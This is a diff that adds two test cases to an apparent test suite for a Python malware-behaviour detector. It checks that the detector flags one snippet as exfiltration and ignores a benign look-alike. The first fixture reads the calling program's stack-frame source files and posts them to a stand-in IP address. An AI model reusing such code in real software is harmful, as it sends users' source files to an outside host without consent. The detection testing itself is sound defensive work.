@@ -256,3 +256,30 @@ PY
 	run dets m.py ClipboardAccess
 	assert_output "$(printf '2 ClipboardAccess pyperclip.paste import 30\n4 ClipboardAccess pyperclip.copy function 2')"
 }
+
+@test "the calling program's frames and source sent to the network are Exfiltration" {
+	py m.py <<'PY'
+import inspect, urllib.request
+def steal():
+    for frame in inspect.stack():
+        with open(frame.filename) as f:
+            content = f.read()
+        urllib.request.urlopen("http://198.51.100.7/x", data=content.encode())
+steal()
+PY
+	run dets m.py Exfiltration
+	assert_output "6 Exfiltration urllib.request.urlopen import 120"
+}
+
+@test "look-alike: frames used for a log message or a local report leave nothing to exfiltrate" {
+	py m.py <<'PY'
+import inspect, logging, requests
+def where():
+    caller = inspect.stack()[1]
+    logging.debug("called from %s:%d", caller.filename, caller.lineno)
+    return requests.get("https://pypi.org/pypi/x/json")
+where()
+PY
+	run dets m.py Exfiltration
+	assert_output ""
+}
